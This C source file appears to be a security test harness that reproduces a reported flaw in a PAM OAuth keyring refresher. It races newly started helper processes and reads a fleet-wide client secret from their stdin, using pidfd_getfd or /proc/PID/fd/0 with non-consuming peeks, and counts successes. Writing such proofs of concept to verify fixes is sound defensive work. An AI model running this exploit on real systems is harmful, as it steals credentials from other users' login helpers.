/* The attack of issue 10, finding 1, as a process of the same user would run it: race a
 * freshly executed helper, in the moments before it makes itself non-dumpable, for the request
 * that waits on its stdin (the client secret is the whole fleet's).
 *
 *   window_attacker getfd REFRESHER_PID SOCKET SECRET TRIES
 *       TRIES times: ask the refresher on SOCKET for a refresh (min_valid 86400), which makes
 *       it start a child; take that child's fd 0 with pidfd_getfd and peek at it
 *       (MSG_PEEK: nothing is consumed, the refresh goes on).
 *   window_attacker procfd SECRET TRIES SECONDS
 *       watch for new "pam_oauth_keyring_refresher" processes (someone else starts
 *       them: each login does), open their /proc/PID/fd/0 and tee() what waits in it.
 *
 * Prints "tries N successes M": a try is a helper process found in time to race it; a
 * success is one whose request, SECRET included, was read. Exits 0 unless it could not run. */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define RACE_MS 400
#define SEEN_MAX 4096

static long long now_ms(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return (long long)now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static bool holds_secret(const char *data, size_t length, const char *secret)
{
    return memmem(data, length, secret, strlen(secret)) != NULL;
}

/* --- getfd ------------------------------------------------------------------------------ */

static void trigger_refresh(const char *socket_path)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    /* One POK/1 request (common/protocol_table.h), then end of file. */
    static const char request[] = "POK/1 refresh\nmin_valid 5\n86400\nend\n";
    char reply[512];
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);

    snprintf(address.sun_path, sizeof(address.sun_path), "%s", socket_path);
    if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof(address)) != 0 ||
        write(fd, request, sizeof(request) - 1) != (ssize_t)(sizeof(request) - 1) ||
        shutdown(fd, SHUT_WR) != 0)
        _exit(1);
    while (read(fd, reply, sizeof(reply)) > 0)
        ;
    _exit(0);
}

/* The pids in /proc/PID/task/PID/children, into pids; their count. */
static int children_of(pid_t parent, pid_t *pids, int max)
{
    char path[64];
    int count = 0;
    long pid;
    FILE *file;

    snprintf(path, sizeof(path), "/proc/%d/task/%d/children", (int)parent, (int)parent);
    file = fopen(path, "re");
    if (file == NULL)
        return 0;
    while (count < max && fscanf(file, "%ld", &pid) == 1)
        pids[count++] = (pid_t)pid;
    fclose(file);
    return count;
}

static bool peek_for_secret(int fd, const char *secret)
{
    char buffer[65536];
    long long until = now_ms() + RACE_MS;

    while (now_ms() < until) {
        ssize_t got = recv(fd, buffer, sizeof(buffer), MSG_PEEK | MSG_DONTWAIT);
        if (got > 0 && holds_secret(buffer, (size_t)got, secret))
            return true;
        if (got == 0 || (got < 0 && errno != EAGAIN))
            return false;
    }
    return false;
}

static bool has_exited(int pidfd)
{
    struct pollfd exited = {pidfd, POLLIN, 0};

    return pidfd < 0 || poll(&exited, 1, 0) != 0;
}

/* Takes the child's fd 0 as soon as the kernel lets us, for RACE_MS at most. */
static bool steal_stdin(pid_t child, const char *secret)
{
    int pidfd = (int)syscall(SYS_pidfd_open, child, 0);
    long long until = now_ms() + RACE_MS;
    bool found = false;
    int fd = -1;

    if (pidfd < 0)
        return false;
    while (fd < 0 && !has_exited(pidfd) && now_ms() < until)
        fd = (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0);
    if (fd >= 0) {
        found = peek_for_secret(fd, secret);
        close(fd);
    }
    close(pidfd);
    return found;
}

static bool is_new(pid_t pid, const pid_t *before, int before_count)
{
    for (int i = 0; i < before_count; i++) {
        if (before[i] == pid)
            return false;
    }
    return true;
}

/* One try: a refresh asked for, its child raced. -1 when no child appeared in 10 s. */
static int race_one_refresh(pid_t refresher, const char *socket_path, const char *secret)
{
    pid_t before[64], now[64], asker;
    int before_count = children_of(refresher, before, 64), result = -1;
    long long until = now_ms() + 10000;

    asker = fork();
    if (asker == 0)
        trigger_refresh(socket_path);
    while (result < 0 && asker > 0 && now_ms() < until) {
        int count = children_of(refresher, now, 64);
        for (int i = 0; i < count && result < 0; i++) {
            if (is_new(now[i], before, before_count))
                result = steal_stdin(now[i], secret) ? 1 : 0;
        }
    }
    if (asker > 0)
        waitpid(asker, NULL, 0);
    return result;
}

static int attack_getfd(pid_t refresher, const char *socket_path, const char *secret, int tries)
{
    int raced = 0, read_secret = 0;

    /* A child that starts and ends while this process waits for a CPU (a loaded machine) is a
     * try missed, not a defence: ask again, up to twice as many times. */
    for (int i = 0; raced < tries && i < 2 * tries; i++) {
        int result = race_one_refresh(refresher, socket_path, secret);
        raced += result >= 0;
        read_secret += result == 1;
    }
    printf("tries %d successes %d\n", raced, read_secret);
    return 0;
}

/* --- procfd ------------------------------------------------------------------------------ */

/* 1 for a refresher ("pam_oauth_keyring_refresher SERVICE"), 0 for anything else (its
 * children have a request before the service), -1 while it is not yet known (a login helper's
 * fork, not exec'd yet). */
static int classify(pid_t pid)
{
    char path[64], command[256];
    ssize_t length;
    int fd, arguments = 0;

    snprintf(path, sizeof(path), "/proc/%d/cmdline", (int)pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    length = read(fd, command, sizeof(command) - 1);
    close(fd);
    if (length <= 0)
        return 0;
    command[length] = '\0';
    if (strcmp(command, "pam_oauth_keyring_helper") == 0)
        return -1;
    if (strcmp(command, "pam_oauth_keyring_refresher") != 0)
        return 0;
    for (ssize_t i = 0; i < length; i++)
        arguments += command[i] == '\0';
    return arguments == 2 ? 1 : 0;
}

static bool tee_for_secret(int fd, const char *secret)
{
    char buffer[65536];
    int copy[2];
    long long until = now_ms() + RACE_MS;
    bool found = false;

    if (pipe(copy) != 0)
        return false;
    while (!found && now_ms() < until) {
        ssize_t got = tee(fd, copy[1], sizeof(buffer), SPLICE_F_NONBLOCK);
        if (got > 0) {
            ssize_t taken = read(copy[0], buffer, sizeof(buffer));
            found = taken > 0 && holds_secret(buffer, (size_t)taken, secret);
        } else if (got == 0 || errno != EAGAIN) {
            break;
        }
    }
    close(copy[0]);
    close(copy[1]);
    return found;
}

/* Opens /proc/PID/fd/0 as soon as the kernel lets us - while the process lives, RACE_MS at
 * most - and tees it. */
static bool open_stdin(pid_t pid, const char *secret)
{
    char path[64];
    long long until = now_ms() + RACE_MS;
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    bool found = false;
    int fd = -1;

    snprintf(path, sizeof(path), "/proc/%d/fd/0", (int)pid);
    while (fd < 0 && !has_exited(pidfd) && now_ms() < until)
        fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (pidfd >= 0)
        close(pidfd);
    if (fd >= 0) {
        found = tee_for_secret(fd, secret);
        close(fd);
    }
    return found;
}

struct watch {
    pid_t next_pid;
    pid_t seen[SEEN_MAX];
    int seen_count;
    int raced, read_secret;
};

static bool was_seen(const struct watch *watch, pid_t pid)
{
    for (int i = 0; i < watch->seen_count; i++) {
        if (watch->seen[i] == pid)
            return true;
    }
    return false;
}

static void look_at(struct watch *watch, pid_t pid, const char *secret)
{
    int kind;

    if (pid <= 0 || pid == getpid() || was_seen(watch, pid))
        return;
    kind = classify(pid);
    if (kind >= 0 && watch->seen_count < SEEN_MAX)
        watch->seen[watch->seen_count++] = pid;
    if (kind == 1) {
        watch->raced++;
        watch->read_secret += open_stdin(pid, secret);
    }
}

/* Every process in /proc; the highest pid seen goes to watch->next_pid. */
static void scan_processes(struct watch *watch, const char *secret)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;

    if (proc == NULL)
        return;
    while ((entry = readdir(proc)) != NULL) {
        pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
        look_at(watch, pid, secret);
        if (pid >= watch->next_pid)
            watch->next_pid = pid + 1;
    }
    closedir(proc);
}

/* Pids are handed out in order: the next few are where a new process appears first. */
static void probe_next_pids(struct watch *watch, const char *secret)
{
    for (pid_t pid = watch->next_pid - 8; pid < watch->next_pid + 64; pid++) {
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d", (int)pid);
        if (access(path, F_OK) != 0)
            continue;
        look_at(watch, pid, secret);
        if (pid >= watch->next_pid)
            watch->next_pid = pid + 1;
    }
}

static volatile sig_atomic_t told_to_stop;

static void stop(int signal_number)
{
    (void)signal_number;
    told_to_stop = 1;
}

static int attack_procfd(const char *secret, int tries, int seconds)
{
    static struct watch watch;
    long long until = now_ms() + (long long)seconds * 1000;

    signal(SIGTERM, stop);
    /* Whatever runs already is not a fresh start. */
    scan_processes(&watch, "\x01 never matches \x01");
    watch.raced = watch.read_secret = 0;
    for (unsigned round = 1; watch.raced < tries && now_ms() < until && !told_to_stop; round++) {
        if (round % 256 == 0)
            scan_processes(&watch, secret);
        probe_next_pids(&watch, secret);
    }
    printf("tries %d successes %d\n", watch.raced, watch.read_secret);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 6 && strcmp(argv[1], "getfd") == 0)
        return attack_getfd((pid_t)atoi(argv[2]), argv[3], argv[4], atoi(argv[5]));
    if (argc == 5 && strcmp(argv[1], "procfd") == 0)
        return attack_procfd(argv[2], atoi(argv[3]), atoi(argv[4]));
    fprintf(stderr, "usage: window_attacker getfd REFRESHER_PID SOCKET SECRET TRIES\n"
                    "       window_attacker procfd SECRET TRIES SECONDS\n");
    return 2;
}
